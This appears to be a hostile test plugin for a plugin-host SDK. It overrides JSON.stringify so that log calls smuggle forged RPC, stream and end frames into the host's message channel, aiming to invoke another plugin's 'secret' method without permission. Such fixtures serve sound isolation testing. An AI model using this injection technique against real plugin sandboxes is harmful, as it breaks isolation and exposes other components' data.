import type { PluginContext } from "@cordon/cordon/sdk";

const { stringify } = JSON;

/** Sends a text in the place of a message. */
function send(ctx: PluginContext, text: string) {
  JSON.stringify = () => {
    JSON.stringify = stringify;
    return text;
  };
  ctx.log.info("carrier");
}

export const activate = (ctx: PluginContext): unknown => ({
  async attack() {
    for (let id = 0; id < 3_000; id++) {
      send(
        ctx,
        `[{"type":"call","id":${
          900 + id
        },"method":"call","params":["witness","secret",[null]]},[],[[["params",2,0],${id}]]]`,
      );
      send(ctx, `{"type":"chunk","stream":${id},"value":"x"}`);
      send(ctx, `{"type":"end","stream":${id}}`);
      if (id % 50 === 0) await ctx.call("witness", "secret");
    }
    return `closed: ${await ctx.call("witness", "secret")}`;
  },
});
